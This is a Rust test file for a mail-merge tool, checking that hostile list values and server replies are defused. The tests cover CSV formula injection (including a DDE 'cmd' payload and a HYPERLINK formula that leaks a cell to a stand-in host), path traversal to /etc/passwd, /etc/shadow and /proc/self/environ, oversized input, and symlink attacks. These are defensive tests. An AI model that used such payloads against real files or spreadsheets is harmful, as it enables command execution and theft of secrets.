//! Untrusted lists and untrusted servers (issue: spreadsheet formulas, control characters and
//! a damaged journal): each test feeds the hostile input through a real run against loopback
//! DNS and SMTP servers and checks what reaches the results file.

use std::sync::Arc;

use crate::support::*;
use mailmerge::journal::JournalError;
use mailmerge::sandbox::dns::loopback;
use mailmerge::sandbox::receiver::{ReceiverConfig, Rule};
use mailmerge::{RunError, run};

/// A receiver that bounces `evil@` with a reply carrying a formula and control characters.
fn hostile_mx() -> ReceiverConfig {
    ReceiverConfig {
        script: Arc::new(|rcpt: &str, _| {
            if rcpt.starts_with("evil@") {
                Rule::Rcpt(
                    550,
                    "=HYPERLINK(\"http://x.test/?\"&B2) \u{1b}[31mred\u{0} bell\u{7}".into(),
                )
            } else {
                Rule::Accept
            }
        }),
        ..ReceiverConfig::default()
    }
}

async fn servers() -> (mailmerge::sandbox::dns::DnsServer, Mxs) {
    let mut z = zone();
    z.mx("example.com", 10, "mx.example.com")
        .addr("mx.example.com", loopback(2));
    (dns(z).await, Mxs::start(vec![(2, hostile_mx())]).await)
}

const LIST: &str = "email,name,note\n\
                    ann@example.com,=cmd|' /C calc'!A0,+SUM(1+1)\n\
                    evil@example.com,@SUM(1),-2+3\n";

#[tokio::test]
async fn formulas_from_the_list_and_from_a_server_reply_are_defused() {
    let (dns, mxs) = servers().await;
    let job = Job::new(LIST, TEMPLATE);
    run(job.config(&dns, mxs.port)).await.expect("run");
    let rows = read_results(&job.results);
    let ann = row(&rows, "ann@example.com");
    assert_eq!(ann["status"], "delivered");
    assert_eq!(ann["name"], "'=cmd|' /C calc'!A0");
    assert_eq!(ann["note"], "'+SUM(1+1)");
    let evil = row(&rows, "evil@example.com");
    assert_eq!(evil["status"], "bounced");
    assert_eq!(evil["name"], "'@SUM(1)");
    assert_eq!(evil["note"], "'-2+3");
    // The reply text starts with the formula: defused, and its control characters escaped.
    let response = &evil["response"];
    assert!(response.starts_with("'=HYPERLINK("), "{response}");
    assert!(
        !response.chars().any(char::is_control),
        "no control character reaches the report: {response:?}"
    );
    assert!(
        response.contains("\\u{1b}[31mred\\u{0} bell\\u{7}"),
        "{response}"
    );
}

#[tokio::test]
async fn raw_csv_writes_cells_as_they_are() {
    let (dns, mxs) = servers().await;
    let job = Job::new(LIST, TEMPLATE);
    let mut cfg = job.config(&dns, mxs.port);
    cfg.raw_csv = true;
    run(cfg).await.expect("run");
    let rows = read_results(&job.results);
    assert_eq!(row(&rows, "ann@example.com")["name"], "=cmd|' /C calc'!A0");
    assert!(row(&rows, "evil@example.com")["response"].starts_with("=HYPERLINK("));
}

#[tokio::test]
async fn a_damaged_journal_record_stops_the_next_run_unless_repaired() {
    let (dns, mxs) = servers().await;
    let job = Job::new(
        "email,name,note\na@example.com,A,x\nb@example.com,B,y\nc@example.com,C,z\n",
        TEMPLATE,
    );
    run(job.config(&dns, mxs.port)).await.expect("first run");
    assert_eq!(mxs.get(2).received().len(), 3);
    let journal = mailmerge::journal::path_for(&job.results);
    let text = std::fs::read_to_string(&journal).unwrap();
    let mut lines: Vec<String> = text.lines().map(str::to_string).collect();
    assert_eq!(lines.len(), 4, "header and three records: {text}");
    // Damage the second record (line 3): the row it records would silently be sent again.
    lines[2] = lines[2].replacen('{', "{garbage", 1);
    std::fs::write(&journal, lines.join("\n") + "\n").unwrap();
    match run(job.config(&dns, mxs.port)).await {
        Err(RunError::Journal(JournalError::Damaged { line, .. })) => assert_eq!(line, 3),
        other => panic!("expected a damaged-journal error, got {other:?}"),
    }
    assert_eq!(mxs.get(2).received().len(), 3, "nothing sent");
    let mut cfg = job.config(&dns, mxs.port);
    cfg.journal_repair = true;
    let report = run(cfg).await.expect("repaired run");
    assert_eq!(report.plan.already_done, 2);
    assert_eq!(
        mxs.get(2).received().len(),
        4,
        "only the damaged row is sent again"
    );
    assert!(
        report
            .warnings
            .iter()
            .any(|w| w.contains("skipped 1 damaged record")),
        "{:?}",
        report.warnings
    );
}

const ATTACH: &str = "From: Sender <news@sender.test>\nTo: {{name}} <{{email}}>\nSubject: Your document\nAttachment: {{note}}\n\nHi {{name}}, your document is attached.\n";

#[tokio::test]
async fn attachment_values_cannot_reach_outside_the_template_folder() {
    let (dns, mxs) = servers().await;
    let hostile = [
        "../../../../etc/passwd",
        "/etc/shadow",
        "/proc/self/environ",
        "link.txt",
        "missing.txt",
    ];
    let mut list = String::from("email,name,note\nok@example.com,Ok,doc.txt\n");
    for (i, value) in hostile.iter().enumerate() {
        list.push_str(&format!("h{i}@example.com,H,{value}\n"));
    }
    let job = Job::new(&list, ATTACH);
    std::fs::write(job.path("doc.txt"), "the document").unwrap();
    std::os::unix::fs::symlink("/etc/passwd", job.path("link.txt")).unwrap();
    run(job.config(&dns, mxs.port)).await.expect("run");
    let rows = read_results(&job.results);
    assert_eq!(row(&rows, "ok@example.com")["status"], "delivered");
    for (i, value) in hostile.iter().enumerate() {
        let r = row(&rows, &format!("h{i}@example.com"));
        assert_eq!(
            (r["status"].as_str(), r["category"].as_str()),
            ("invalid", "invalid-input"),
            "{value}"
        );
        // One neutral message naming the value as given: no resolved path, no OS error.
        assert!(
            r["response"].ends_with(&format!("attachment not available: {value}")),
            "{value}: {}",
            r["response"]
        );
        assert!(!r["response"].contains("No such file"), "{}", r["response"]);
    }
    let got = mxs.get(2).received();
    assert_eq!(got.len(), 1, "only the legitimate row was sent");
    let text = String::from_utf8_lossy(&got[0].data);
    assert!(!text.contains("root:"), "no system file travelled");
}

#[tokio::test]
async fn an_oversized_row_is_invalid_instead_of_eating_memory() {
    let (dns, mxs) = servers().await;
    let big = "x".repeat(300 * 1024);
    let job = Job::new(
        &format!("email,name,note\nbig@example.com,{big},n\nsmall@example.com,Small,n\n"),
        TEMPLATE,
    );
    let mut cfg = job.config(&dns, mxs.port);
    cfg.message.max_message_size = 256 * 1024;
    run(cfg).await.expect("run");
    let rows = read_results(&job.results);
    let r = row(&rows, "big@example.com");
    assert_eq!(r["status"], "invalid");
    assert!(
        r["response"].contains("--max-message-size"),
        "{}",
        r["response"]
    );
    assert_eq!(row(&rows, "small@example.com")["status"], "delivered");
}

#[tokio::test]
async fn an_oversized_field_makes_its_row_invalid_and_the_rest_goes_on() {
    let (dns, mxs) = servers().await;
    let big = "y".repeat(5000);
    let job = Job::new(
        &format!("email,name,note\nbig@example.com,B,{big}\nsmall@example.com,Small,n\n"),
        TEMPLATE,
    );
    let mut cfg = job.config(&dns, mxs.port);
    cfg.list.max_field_size = 4096;
    run(cfg).await.expect("run");
    let rows = read_results(&job.results);
    let r = row(&rows, "big@example.com");
    assert_eq!(r["status"], "invalid");
    assert!(
        r["response"].contains("line 2: field \"note\" is 5000 bytes, over the limit of 4096"),
        "{}",
        r["response"]
    );
    assert_eq!(row(&rows, "small@example.com")["status"], "delivered");
    assert_eq!(mxs.get(2).received().len(), 1);
}

// Files we create are never written through a symbolic link (issue 21, case 5). Each test
// plants links where mailmerge writes — the old predictable temporary name `<results>.tmp`,
// the results file itself, the journal — pointing at a "victim" file outside the job's folder,
// and checks that the victim is untouched and no link ends up where the results belong.

/// A file outside the job's folder that a link planted in it points at.
struct Victim {
    _dir: tempfile::TempDir,
    path: std::path::PathBuf,
}

const PRECIOUS: &str = "precious: not mailmerge's to write\n";

impl Victim {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("victim.txt");
        std::fs::write(&path, PRECIOUS).unwrap();
        Self { _dir: dir, path }
    }

    /// A path in the victim's folder that does not exist (the target of a dangling link).
    fn absent(&self) -> std::path::PathBuf {
        self.path.with_file_name("created-through-a-link.txt")
    }

    fn assert_untouched(&self) {
        assert_eq!(
            std::fs::read_to_string(&self.path).unwrap(),
            PRECIOUS,
            "the link's target was written"
        );
        assert!(!self.absent().exists(), "a file was created through a link");
    }
}

/// `path` is a regular file (not a link), and no temporary file is left beside it.
fn assert_regular_file(path: &std::path::Path) {
    let meta = std::fs::symlink_metadata(path).unwrap();
    assert!(
        meta.file_type().is_file(),
        "{} is not a regular file",
        path.display()
    );
    let name = path.file_name().unwrap().to_string_lossy();
    let prefix = format!(".{name}.");
    for entry in std::fs::read_dir(path.parent().unwrap()).unwrap() {
        let n = entry.unwrap().file_name().to_string_lossy().into_owned();
        assert!(
            !(n.starts_with(&prefix) && n.ends_with(".tmp")),
            "temporary file left: {n}"
        );
    }
}

fn link(target: &std::path::Path, at: &std::path::Path) {
    std::os::unix::fs::symlink(target, at).unwrap();
}

#[tokio::test]
async fn run_never_writes_the_results_through_a_link() {
    let (dns, mxs) = servers().await;
    let job = Job::new(LIST, TEMPLATE);
    let victim = Victim::new();
    // The temporary name the results used to be written to, and the results' own name.
    link(&victim.path, &job.path("list.results.csv.tmp"));
    link(&victim.path, &job.results);
    run(job.config(&dns, mxs.port)).await.expect("run");
    victim.assert_untouched();
    assert_regular_file(&job.results);
    let rows = read_results(&job.results);
    assert_eq!(row(&rows, "ann@example.com")["status"], "delivered");
    // The planted link is left as it was: not written, not moved.
    assert_eq!(
        std::fs::read_link(job.path("list.results.csv.tmp")).unwrap(),
        victim.path
    );
}

#[tokio::test]
async fn a_journal_that_is_a_link_is_refused_and_nothing_is_sent() {
    let (dns, mxs) = servers().await;
    let job = Job::new(LIST, TEMPLATE);
    let victim = Victim::new();
    let journal = mailmerge::journal::path_for(&job.results);
    link(&victim.path, &journal);
    for fresh in [false, true] {
        let mut cfg = job.config(&dns, mxs.port);
        cfg.fresh = fresh;
        let err = run(cfg).await.expect_err("a linked journal is refused");
        assert!(
            matches!(&err, RunError::Journal(JournalError::Link { path, target })
                if *path == journal && *target == victim.path),
            "--fresh {fresh}: {err:?}"
        );
        assert!(err.to_string().contains("symbolic link"), "{err}");
        victim.assert_untouched();
    }
    // A dangling link: its target is not created.
    std::fs::remove_file(&journal).unwrap();
    link(&victim.absent(), &journal);
    let mut cfg = job.config(&dns, mxs.port);
    cfg.fresh = true;
    let err = run(cfg)
        .await
        .expect_err("a dangling journal link is refused");
    assert!(
        matches!(err, RunError::Journal(JournalError::Link { .. })),
        "{err:?}"
    );
    victim.assert_untouched();
    assert_eq!(mxs.get(2).received().len(), 0, "nothing sent");
    assert!(!job.results.exists(), "no results written");
}

#[test]
fn merge_results_never_writes_through_a_link() {
    let dir = tempfile::tempdir().unwrap();
    let list = dir.path().join("list.csv");
    std::fs::write(&list, "email\na@x.test\nb@y.test\n").unwrap();
    // Two shards' results as `run` writes them for this list (the cells merge checks filled).
    let header = mailmerge::report::COLUMNS.join(",") + ",input_email\n";
    let pad = ",".repeat(mailmerge::report::COLUMNS.len() - 2);
    let a = dir.path().join("a.csv");
    let b = dir.path().join("b.csv");
    std::fs::write(&a, format!("{header}1,a@x.test{pad},a@x.test\n")).unwrap();
    std::fs::write(&b, format!("{header}2,b@y.test{pad},b@y.test\n")).unwrap();
    let victim = Victim::new();
    let out = dir.path().join("m.csv");
    link(&victim.path, &dir.path().join("m.csv.tmp"));
    link(&victim.path, &out);
    let merged = binary()
        .arg("merge-results")
        .args([&a, &b])
        .arg("--list")
        .arg(&list)
        .arg("-o")
        .arg(&out)
        .output()
        .unwrap();
    assert_eq!(merged.status.code(), Some(0), "{merged:?}");
    victim.assert_untouched();
    assert_regular_file(&out);
    let rows = read_results(&out);
    assert_eq!(rows.len(), 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bounces_never_rewrite_the_results_through_a_link() {
    let mut z = zone();
    z.mx("a.test", 10, "mx.a.test")
        .addr("mx.a.test", loopback(2));
    let dns = dns(z).await;
    let mxs = Mxs::start(vec![(2, ReceiverConfig::default())]).await;
    let scratch = tempfile::tempdir().unwrap();
    let store = scratch.path().join("s.sqlite");
    let key: &[u8] = b"test key, 16+ bytes long";
    let job = Job::new("email,name\nann@a.test,Ann\nbob@a.test,Bob\n", TEMPLATE);
    let mut cfg = job.config(&dns, mxs.port);
    cfg.suppress.store = Some(store.clone().into());
    cfg.message.verp =
        Some(mailmerge::verp::Verp::new("bounces+{token}@sender.test", key).unwrap());
    run(cfg).await.expect("run");
    let ann = mxs
        .get(2)
        .received()
        .into_iter()
        .find(|r| r.rcpt_to == "ann@a.test")
        .unwrap();
    let id = row(&read_results(&job.results), "ann@a.test")["message_id"].clone();
    let dsn = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/fixtures/bounces/postfix-dsn.eml"),
    )
    .unwrap()
    .replace("{{RCPT}}", "ann@a.test")
    .replace("{{RETURN_PATH}}", &ann.mail_from)
    .replace("{{MESSAGE_ID}}", &id);
    let victim = Victim::new();
    link(&victim.path, &job.path("list.results.csv.tmp"));
    let mut matcher = mailmerge::bounces::Matcher::new(open_list(&store).unwrap(), Some(key))
        .await
        .unwrap();
    let raw = mailmerge::bounces::read::Raw {
        origin: "dsn.eml".into(),
        bytes: dsn.into_bytes(),
        truncated: false,
    };
    let got = matcher.apply(&raw).await.unwrap();
    assert!(
        matches!(
            &got[..],
            [mailmerge::bounces::Reading {
                disposition: mailmerge::bounces::Disposition::Matched { .. },
                ..
            }]
        ),
        "{got:?}"
    );
    assert_eq!(matcher.finish().unwrap(), 1);
    victim.assert_untouched();
    assert_regular_file(&job.results);
    assert_eq!(
        row(&read_results(&job.results), "ann@a.test")["status"],
        "bounced"
    );
}
